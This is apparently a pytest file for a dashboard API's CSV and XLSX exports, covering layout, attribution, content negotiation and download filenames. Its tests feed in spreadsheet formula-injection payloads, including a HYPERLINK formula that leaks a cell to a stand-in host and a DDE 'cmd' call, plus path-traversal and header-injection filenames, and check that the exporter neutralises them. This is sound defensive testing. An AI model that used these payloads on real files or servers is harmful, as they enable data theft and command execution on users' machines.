"""Specifications of the board-paper exports (api/exports.py): a report as CSV and as XLSX,
the choice between JSON, CSV and XLSX, and the download's filename.

CSV is read back with the csv module and XLSX with openpyxl, as a spreadsheet would read
them, so what is checked is what a commissioner would open.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import unquote

import httpx
import openpyxl
import pytest
from fastapi import FastAPI
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from api import problems
from api.exports import (
    Cell,
    Column,
    Format,
    NotAcceptable,
    Report,
    Section,
    UnknownExportFormat,
    content_disposition,
    download,
    export_format,
    neutralise,
    render,
    to_csv,
    to_xlsx,
)
from api.schemas.published_statistics import ATTRIBUTION
from domain.indicators import Suppression

BOM = b"\xef\xbb\xbf"
# A right single quotation mark and an en dash, as a trust's name is typeset.
TRUST = "Children\u2019s Trust \u2013 Sandwell"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OFSTED = "Ofsted, Local authority inspection outcomes as at 31 March 2025"
DFE = "Department for Education, Children in need 2025"

# Text a spreadsheet would run, each as it must come out: with a leading apostrophe.
HOSTILE = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 121 569 2266",
    "-1",
    "\t=1+1",
    "\r=1+1",
]


def kpis(*rows: tuple[Cell, ...]) -> Section:
    return Section(
        "KPIs",
        (
            Column("Indicator"),
            Column("Period"),
            Column("Value", "%"),
            Column("Returned"),
            Column("Restatements"),
        ),
        rows,
    )


RE_REFERRALS = ("Re-referrals within 12 months", "2024-25", Decimal("22.7"), date(2025, 6, 30), 1)


def report(*sections: Section, sources: tuple[str, ...] = ()) -> Report:
    return Report(
        f"{TRUST}: dashboard",
        sections or (kpis(RE_REFERRALS),),
        sources,
    )


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def workbook(body: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(body))


def data_rows(sheet: Worksheet, count: int) -> list[list[object]]:
    """The values of the first `count` rows below the headings (row 3)."""
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4, max_row=3 + count)]


# -- CSV ----------------------------------------------------------------------------------------


def test_a_csv_is_the_title_then_each_section_after_a_blank_line_with_its_title_and_headings():
    ofsted = Section(
        "Ofsted",
        (Column("Published"), Column("Overall effectiveness")),
        ((date(2025, 12, 4), "Requires improvement to be good"),),
    )
    body = to_csv(report(kpis(RE_REFERRALS), ofsted))

    assert csv_rows(body) == [
        [f"{TRUST}: dashboard"],
        [],
        ["KPIs"],
        ["Indicator", "Period", "Value (%)", "Returned", "Restatements"],
        ["Re-referrals within 12 months", "2024-25", "22.7", "2025-06-30", "1"],
        [],
        ["Ofsted"],
        ["Published", "Overall effectiveness"],
        ["2025-12-04", "Requires improvement to be good"],
    ]


def test_a_csv_is_utf8_with_a_byte_order_mark_and_crlf_line_ends():
    body = to_csv(report())

    assert body.startswith(BOM)
    assert body.count(b"\r\n") == 5
    assert b"\n" not in body.replace(b"\r\n", b"")
    assert TRUST.encode() in body


def test_csv_quotes_commas_quotes_and_line_breaks_as_rfc_4180_does():
    awkward = 'Agreed, with a "remedial" plan\r\nsee minutes'
    body = to_csv(report(kpis(("CIN, re-referrals", "2024-25", None, None, None)), kpis()))
    body_awkward = to_csv(report(kpis((awkward, "2024-25", None, None, None))))

    assert b'"CIN, re-referrals",2024-25,,,\r\n' in body
    assert b'"Agreed, with a ""remedial"" plan\r\nsee minutes"' in body_awkward
    assert csv_rows(body_awkward)[4][0] == awkward


def test_csv_writes_decimals_in_full_as_given_and_blanks_as_empty_fields():
    body = to_csv(report(kpis(("Spend", "2024-25", Decimal("1.25E+3"), None, 0)), kpis()))
    body_places = to_csv(report(kpis(("Rate", "2024-25", Decimal("22.70"), None, -3))))

    assert csv_rows(body)[4] == ["Spend", "2024-25", "1250", "", "0"]
    assert csv_rows(body_places)[4] == ["Rate", "2024-25", "22.70", "", "-3"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(hostile: str):
    body = to_csv(Report(hostile, (Section(hostile, (Column(hostile),), ((hostile,),)),), ()))

    assert csv_rows(body) == [
        [f"'{hostile}"],
        [],
        [f"'{hostile}"],
        [f"'{hostile}"],
        [f"'{hostile}"],
    ]


def test_csv_leaves_negative_numbers_as_numbers_and_only_text_is_neutralised():
    body = to_csv(report(kpis(("Variance", "-1", Decimal("-2.5"), None, -1))))

    assert csv_rows(body)[4] == ["Variance", "'-1", "-2.5", "", "-1"]


def test_csv_shows_a_figure_not_published_as_its_symbol_and_says_what_it_means():
    body = to_csv(
        report(
            kpis(
                ("Re-referrals", "2024-25", Suppression.SUPPRESSED, None, None),
                ("Re-referrals", "2023-24", Suppression.NOT_AVAILABLE, None, None),
                ("Re-referrals", "2022-23", Suppression.SUPPRESSED, None, None),
            )
        )
    )

    rows = csv_rows(body)
    assert [row[2] for row in rows[4:7]] == ["[c]", "[x]", "[c]"]
    assert rows[-2:] == [["[c] suppressed to protect confidentiality"], ["[x] not available"]]


# -- attribution --------------------------------------------------------------------------------


def test_a_report_of_public_data_carries_the_ogl_attribution_and_its_sources():
    public = report(sources=(OFSTED, DFE))

    assert public.footer()[0] == (
        "Contains public sector information licensed under the Open Government Licence v3.0."
    )
    assert public.footer()[0] == ATTRIBUTION
    assert f"Source: {OFSTED}" in public.footer()
    assert f"Source: {DFE}" in public.footer()

    rows = csv_rows(to_csv(public))
    assert rows[-len(public.footer()) - 1 :] == [[], *([line] for line in public.footer())]


def test_a_report_without_public_data_carries_no_attribution():
    own = report()

    assert own.footer() == ()
    assert "Open Government Licence" not in to_csv(own).decode("utf-8-sig")
    xlsx = workbook(to_xlsx(own))
    assert all(
        "Open Government Licence" not in str(cell.value)
        for sheet in xlsx.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )


def test_every_xlsx_sheet_ends_with_the_attribution_below_a_blank_row():
    public = report(kpis(RE_REFERRALS, RE_REFERRALS), kpis(), sources=(OFSTED,))

    xlsx = workbook(to_xlsx(public))

    for sheet in xlsx.worksheets:
        footer = [row[0] for row in sheet.iter_rows(values_only=True)][-len(public.footer()) :]
        assert footer == list(public.footer())
        assert sheet.cell(sheet.max_row - len(public.footer()), 1).value is None
    [kpi_sheet, empty_sheet] = xlsx.worksheets
    assert kpi_sheet.cell(7, 1).value == ATTRIBUTION  # headings on 3, rows 4 and 5, blank 6
    assert empty_sheet.cell(5, 1).value == ATTRIBUTION  # headings on 3, no rows, blank 4


# -- XLSX ---------------------------------------------------------------------------------------


def test_an_xlsx_has_a_sheet_per_section_with_titles_and_a_bold_frozen_heading_row():
    ofsted = Section("Ofsted", (Column("Published"),), ((date(2025, 12, 4),),))
    xlsx = workbook(to_xlsx(report(kpis(RE_REFERRALS), ofsted)))

    assert xlsx.sheetnames == ["KPIs", "Ofsted"]
    assert xlsx.properties.title == f"{TRUST}: dashboard"
    sheet = xlsx["KPIs"]
    assert sheet["A1"].value == f"{TRUST}: dashboard"
    assert sheet["A2"].value == "KPIs"
    [headings] = sheet.iter_rows(min_row=3, max_row=3)
    assert [cell.value for cell in headings] == [
        "Indicator",
        "Period",
        "Value (%)",
        "Returned",
        "Restatements",
    ]
    assert all(cell.font.bold for cell in headings)
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:E4"
    assert sheet.print_title_rows == "$3:$3"


def test_an_xlsx_writes_numbers_as_numbers_and_dates_as_dates():
    sheet = workbook(
        to_xlsx(report(kpis(RE_REFERRALS, ("Spend", None, Decimal("-1234.50"), None, -1))))
    )["KPIs"]

    [referrals, spend] = list(sheet.iter_rows(min_row=4, max_row=5))
    assert referrals[2].value == pytest.approx(22.7)
    assert referrals[2].data_type == "n"
    assert referrals[2].number_format == "#,##0.0"
    assert referrals[3].value == datetime(2025, 6, 30)
    assert referrals[3].is_date
    assert referrals[3].number_format == "d mmmm yyyy"
    assert referrals[4].value == 1
    assert spend[1].value is None
    assert spend[2].value == pytest.approx(-1234.5)
    assert spend[2].number_format == "#,##0.00"
    assert spend[4].value == -1
    assert spend[4].data_type == "n"


def test_an_xlsx_shows_a_figure_not_published_as_text_never_as_zero():
    public = report(kpis(("Re-referrals", "2024-25", Suppression.SUPPRESSED, None, None)))
    sheet = workbook(to_xlsx(public))["KPIs"]

    assert sheet["C4"].value == "[c]"
    assert sheet["C4"].data_type == "s"
    assert sheet["A6"].value == "[c] suppressed to protect confidentiality"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_an_xlsx_neutralises_text_and_writes_it_as_a_string_never_a_formula(hostile: str):
    body = to_xlsx(Report(hostile, (Section("Notes", (Column(hostile),), ((hostile,),)),), ()))
    sheet = workbook(body)["Notes"]

    # OOXML writes a carriage return as `_x000D_`, which Excel reads back and openpyxl leaves.
    texts = [unescape(sheet[cell].value) for cell in ("A1", "A3", "A4")]
    assert texts == [f"'{hostile}"] * 3
    assert {sheet["A1"].data_type, sheet["A3"].data_type, sheet["A4"].data_type} == {"s"}
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


def test_an_xlsx_writes_links_and_number_like_text_as_plain_text():
    text = ("https://reports.ofsted.gov.uk/provider/44/80575", "0121 569 2266", "1e3", "")
    sheet = workbook(to_xlsx(Report("Links", (Section("Links", (Column("Text"),) * 4, (text,)),))))[
        "Links"
    ]

    [row] = sheet.iter_rows(min_row=4, max_row=4)
    assert [cell.value for cell in row[:3]] == list(text[:3])
    assert {cell.data_type for cell in row[:3]} == {"s"}
    assert all(cell.hyperlink is None for cell in row)
    assert not sheet._hyperlinks


def test_xlsx_columns_are_wide_enough_for_their_values_within_bounds():
    long_text = "An improvement plan agreed with the Department. " * 5
    sheet = workbook(
        to_xlsx(report(kpis(("Re-referrals", "2024-25", Decimal("22.7"), None, 1)), kpis()))
    )["KPIs"]
    sheet_long = workbook(to_xlsx(report(kpis((long_text, "2024-25", None, None, None)))))["KPIs"]

    assert sheet.column_dimensions["A"].width == pytest.approx(len("Re-referrals") + 2, abs=1)
    assert sheet.column_dimensions["E"].width == pytest.approx(len("Restatements") + 2, abs=1)
    assert sheet_long.column_dimensions["A"].width == pytest.approx(60, abs=1)
    assert sheet_long["A4"].alignment.wrap_text


def test_sheet_names_are_made_acceptable_to_excel_and_unique():
    titles = ["KPIs: 2024/25 [draft]", "kpis  2024 25  draft", "History", "'Quoted'", "x" * 40]
    sections = tuple(Section(t, (Column("A"),), ()) for t in titles)

    names = workbook(to_xlsx(Report("Names", sections))).sheetnames

    assert names == [
        "KPIs 2024 25 draft",
        "kpis 2024 25 draft (2)",
        "History (report)",
        "Quoted",
        "x" * 31,
    ]


# -- the model ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [True, 22.7, datetime(2025, 6, 30, 9, 0), b"bytes", Decimal("NaN"), Decimal("Infinity")],
    ids=["bool", "float", "datetime", "bytes", "nan", "infinity"],
)
def test_a_cell_is_text_a_whole_number_a_decimal_a_date_a_symbol_or_blank(cell: object):
    with pytest.raises((TypeError, ValueError)):
        kpis(("Re-referrals", "2024-25", cell, None, None))  # type: ignore[arg-type]


def test_a_text_cell_fits_in_an_excel_cell():
    kpis(("x" * 32_767, None, None, None, None))
    with pytest.raises(ValueError, match="32,767"):
        kpis(("=" + "x" * 32_766, None, None, None, None))


def test_a_row_has_a_cell_for_every_column():
    with pytest.raises(ValueError, match="4 cells for 5 columns"):
        kpis(("Re-referrals", "2024-25", Decimal("22.7"), None))


def test_a_report_has_a_title_and_at_least_one_section_and_its_sources_are_named():
    with pytest.raises(ValueError, match="title"):
        Report(" ", (kpis(),))
    with pytest.raises(ValueError, match="section"):
        Report("Dashboard", ())
    with pytest.raises(ValueError, match="source"):
        Report("Dashboard", (kpis(),), ("",))


# -- content negotiation ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("accept", "format_param", "expected"),
    [
        (None, None, Format.JSON),
        ("", None, Format.JSON),
        ("*/*", None, Format.JSON),
        ("application/json", None, Format.JSON),
        ("text/csv", None, Format.CSV),
        ("TEXT/CSV; charset=utf-8", None, Format.CSV),
        (XLSX, None, Format.XLSX),
        ("text/*", None, Format.CSV),
        ("application/*", None, Format.JSON),
        # Named outright beats */* at the same weight.
        ("text/csv, */*", None, Format.CSV),
        (f"{XLSX}, */*;q=0.8", None, Format.XLSX),
        # Higher weight wins, wherever it stands.
        (f"text/csv;q=0.5, {XLSX};q=0.9", None, Format.XLSX),
        ("application/json;q=0.1, text/csv", None, Format.CSV),
        # The most specific range decides: q=0 refuses, even beside */*.
        ("*/*, application/json;q=0", None, Format.CSV),
        ("*/*, application/json;q=0, text/csv;q=0", None, Format.XLSX),
        ("application/*;q=0.2, application/json;q=0.1", None, Format.XLSX),
        # A browser's Accept: */* gets JSON.
        (
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            None,
            Format.JSON,
        ),
        # Malformed elements are ignored; a header of nothing else is as if absent.
        ("text/csv;q=2, text/csv;q=high, application/json", None, Format.JSON),
        ("nonsense", None, Format.JSON),
        # ?format= wins over Accept, whatever it says.
        ("application/json", "csv", Format.CSV),
        ("text/csv", "xlsx", Format.XLSX),
        ("text/html", "json", Format.JSON),
        (None, "XLSX", Format.XLSX),
        (None, " csv ", Format.CSV),
    ],
)
def test_the_format_is_the_query_parameters_else_the_best_accept_allows(
    accept: str | None, format_param: str | None, expected: Format
):
    assert export_format(accept, format_param) is expected


@pytest.mark.parametrize("format_param", ["pdf", "xls", "", "json;q=1"])
def test_an_unknown_format_parameter_is_a_bad_request(format_param: str):
    with pytest.raises(UnknownExportFormat) as refused:
        export_format("text/csv", format_param)
    assert refused.value.status == 400
    assert refused.value.extra == {"available": ["json", "csv", "xlsx"]}


@pytest.mark.parametrize(
    "accept",
    [
        "text/html",
        "application/pdf, image/*",
        "application/vnd.ms-excel",
        "*/*;q=0",
        "*/csv, application/json;q=0",
        "text/csv;q=0, application/json;q=0.000, application/*;q=0",
    ],
)
def test_an_accept_that_admits_no_format_is_not_acceptable(accept: str):
    with pytest.raises(NotAcceptable) as refused:
        export_format(accept, None)
    assert refused.value.status == 406


def test_negotiation_errors_are_answered_as_problem_details_by_the_one_error_map():
    app = FastAPI()
    problems.install(app)

    @app.get("/dashboard")
    def dashboard(accept: str | None = None, format: str | None = None) -> dict[str, str]:
        return {"format": export_format(accept, format).value}

    async def ask(**params: str) -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
            return await client.get("/dashboard", params=params)

    bad = asyncio.run(ask(format="pdf"))
    refused = asyncio.run(ask(accept="text/html"))

    assert bad.status_code == 400
    assert bad.headers["content-type"] == "application/problem+json"
    assert bad.json()["type"] == "/problems/unknown-export-format"
    assert refused.status_code == 406
    assert refused.json()["type"] == "/problems/not-acceptable"
    assert refused.json()["available"] == ["application/json", "text/csv", XLSX]


def test_each_format_has_its_media_type():
    assert Format.JSON.media_type == "application/json"
    assert Format.CSV.content_type == "text/csv; charset=utf-8"
    assert Format.XLSX.content_type == XLSX


# -- the download -------------------------------------------------------------------------------


def filename_of(header: str) -> str:
    """The filename a browser takes from the header: `filename*` (RFC 6266 §4.3)."""
    [encoded] = re.findall(r"filename\*=UTF-8''([^;\s]+)", header)
    return unquote(encoded, encoding="utf-8", errors="strict")


def fallback_of(header: str) -> str:
    """The filename a client predating RFC 6266 takes from the header."""
    [quoted] = re.findall(r'filename="([^"]*)"', header)
    return str(quoted)


def test_a_download_is_named_in_ascii_for_old_clients_and_in_full_for_the_rest():
    header = content_disposition(f"{TRUST} dashboard", Format.CSV)

    assert header == (
        'attachment; filename="Children\'s Trust - Sandwell dashboard.csv"; '
        "filename*=UTF-8''Children%E2%80%99s%20Trust%20%E2%80%93%20Sandwell%20dashboard.csv"
    )
    assert filename_of(header) == f"{TRUST} dashboard.csv"


@pytest.mark.parametrize(
    ("name", "ascii_name", "full_name"),
    [
        ("Portfolio", "Portfolio.xlsx", "Portfolio.xlsx"),
        ("Trust Enfants Sévérité", "Trust Enfants Severite.xlsx", "Trust Enfants Sévérité.xlsx"),
        ("儿童信托", "export.xlsx", "儿童信托.xlsx"),
        ('../../etc/passwd"; x=1', "etc passwd _ x_1.xlsx", "etc passwd ; x=1.xlsx"),
        (
            "Sandwell\r\nSet-Cookie: a=b",
            "Sandwell Set-Cookie a_b.xlsx",
            "Sandwell Set-Cookie a=b.xlsx",
        ),
        ("   ", "export.xlsx", "export.xlsx"),
        ("a" * 300, "a" * 100 + ".xlsx", "a" * 100 + ".xlsx"),
    ],
)
def test_a_download_name_carries_no_path_quote_or_control_character(
    name: str, ascii_name: str, full_name: str
):
    header = content_disposition(name, Format.XLSX)

    assert fallback_of(header) == ascii_name
    assert filename_of(header) == full_name
    assert header.isascii()
    assert not {"\r", "\n", "/", "\\"} & set(header.replace("filename*=UTF-8''", ""))


def test_download_answers_with_the_file_its_type_and_its_name():
    public = report(sources=(OFSTED,))

    response = download(public, Format.XLSX, "Sandwell dashboard")

    assert workbook(bytes(response.body))["KPIs"]["A1"].value == public.title
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="Sandwell dashboard.xlsx"'
    )
    assert response.headers["vary"] == "Accept"
    assert download(public, Format.CSV, "x").headers["content-type"] == "text/csv; charset=utf-8"


def test_json_is_not_rendered_as_a_report():
    assert render(report(), Format.CSV) == to_csv(report())
    with pytest.raises(ValueError, match="schema"):
        render(report(), Format.JSON)


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Requires improvement to be good") == "Requires improvement to be good"
    assert neutralise("22.7% (844 of 3,723)") == "22.7% (844 of 3,723)"
    assert neutralise("") == ""
